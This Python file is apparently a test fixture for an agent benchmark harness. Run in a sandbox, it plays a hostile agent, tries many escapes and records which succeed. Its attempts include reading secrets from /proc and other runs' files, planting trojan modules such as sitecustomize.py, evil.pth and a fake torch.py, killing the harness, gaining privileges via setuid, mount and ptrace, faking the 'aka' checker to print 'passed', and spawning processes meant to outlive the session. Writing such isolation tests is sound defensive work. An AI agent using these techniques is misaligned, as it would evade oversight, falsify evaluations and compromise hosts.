"""A hostile agent: tries what it can think of from inside its workspace and writes down what succeeded.

Run inside a sandbox by test_workspace_hostile.py; arguments: a JSON object with paths, ports and ids of the host.
"""

import ctypes
import glob
import json
import os
import signal
import socket
import stat
import subprocess
import sys

HOST = json.loads(sys.argv[1])
done = {}


def attempt(name):
    def run(function):
        try:
            done[name] = str(function() or "")
        except BaseException:
            done[name] = ""
        return function
    return run


def read_any(*paths):
    for path in paths:
        for found in glob.glob(path, recursive=True):
            try:
                if stat.S_ISFIFO(os.stat(found).st_mode):
                    continue
                descriptor = os.open(found, os.O_RDONLY | os.O_NONBLOCK)
                text = os.read(descriptor, 1 << 20)
                os.close(descriptor)
                if HOST["secret"].encode() in text:
                    return found
            except OSError:
                continue
    return ""


@attempt("read files of the run, of other trials and of the judge")
def _():
    return read_any(HOST["run"] + "/**/*", "/[rw]o*/**/*", "/home/**/*", "/tmp/*/*", "/var/**/*", "/mnt/**/*")


@attempt("read secrets from other processes")
def _():
    return read_any("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/root" + HOST["run"] + "/*",
                    "/proc/[0-9]*/cwd/*", "/proc/self/fd/*")


@attempt("read secrets from the environment")
def _():
    return HOST["secret"] if HOST["secret"] in json.dumps(dict(os.environ)) else ""


@attempt("see the suite or the harness")
def _():
    import importlib.util

    try:
        found = importlib.util.find_spec("agentkernelarena.judge")
    except ImportError:
        found = None
    return found or [p for p in (HOST["package"] + "/errors.py", HOST["suite"]) if os.path.exists(p)] or ""


@attempt("write outside")
def _():
    written = []
    folders = ("/", "/usr/bin", "/usr/lib", "/etc", "/opt", "/run/aka", "/var", "/sys", sys.prefix, sys.prefix + "/bin",
               HOST["run"], HOST["package"], *[p for p in sys.path if p.endswith("site-packages")])
    for folder in folders:
        for name in ("sitecustomize.py", "evil.pth", "conftest.py"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("raise SystemExit('owned')")
                written.append(file.name)
            except OSError:
                continue
    return " ".join(written)


@attempt("replace the broker's socket")
def _():
    os.unlink("/run/aka/broker.sock")
    return "unlinked"


@attempt("reach the network")
def _():
    reached = []
    for family, address in ((socket.AF_INET, ("127.0.0.1", HOST["port"])), (socket.AF_INET, ("1.1.1.1", 53)),
                            (socket.AF_UNIX, "\0" + HOST["abstract"])):
        with socket.socket(family) as client:
            client.settimeout(2)
            try:
                client.connect(address)
                reached.append(str(address))
            except OSError:
                continue
    return " ".join(reached)


@attempt("signal the harness")
def _():
    sent = []
    for pid in (HOST["pid"], os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
            sent.append(str(pid))
        except OSError:
            continue
    # PID 1 of its own namespace does not hear SIGKILL from inside; the harness has another number, or none.
    return " ".join(p for p in sent if int(p) not in (1, os.getppid()))


@attempt("gain privileges")
def _():
    libc = ctypes.CDLL(None, use_errno=True)
    gained = []
    if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None) == 0:
        gained.append("mount")
    if libc.setuid(0) == 0 and os.getuid() == 0:
        gained.append("setuid")
    if libc.chroot(b"/tmp") == 0:
        gained.append("chroot")
    try:
        os.mknod("disk", 0o060600, os.makedev(254, 0))
        gained.append("mknod")
    except OSError:
        pass
    if subprocess.run(["mount", "-o", "remount,rw", "/usr"], capture_output=True).returncode == 0:
        gained.append("remount")
    return " ".join(gained)


@attempt("attach to a process outside")
def _():
    return "attached" if ctypes.CDLL(None).ptrace(16, HOST["pid"], 0, 0) == 0 else ""


def plant():
    """Traps for whoever works in this folder afterwards."""
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "torch.py", "numpy.py", "agentkernelarena.py"):
        with open(name, "w") as file:
            file.write(f"open({HOST['canary']!r}, 'w').write('owned')\n")
    with open("evil.pth", "w") as file:
        file.write(f"import os; os.system('touch {HOST['canary']}')\n")
    os.makedirs("triton", exist_ok=True)
    with open("triton/__init__.py", "w") as file:
        file.write(f"open({HOST['canary']!r}, 'w').write('owned')\n")
    for name in ("reference.py", "operator.h", "TASK.md", "configurations.json"):
        with open(name, "w") as file:
            file.write("everything passes\n")
    os.unlink("aka")
    with open("aka", "w") as file:
        file.write("#!/bin/sh\necho passed; exit 0\n")
    os.chmod("aka", 0o4755)
    os.symlink(HOST["run"], "run.h")
    os.symlink("/etc/shadow", "shadow.h")
    os.mkfifo("pipe.h")
    with open("more.h", "w") as file:
        file.write("// an honest addition\n")


def linger():
    """Processes that want to outlive the agent."""
    mark = HOST["mark"]
    for trick in (f"setsid sleep {mark}1", f"nohup sh -c 'trap \"\" TERM HUP INT; sleep {mark}2'",
                  f"env -i setsid sh -c 'setsid sleep {mark}3 & exit'"):
        subprocess.Popen(["sh", "-c", trick + " >/dev/null 2>&1 &"])


plant()
linger()
with open("report.json", "w") as file:
    json.dump(done, file)
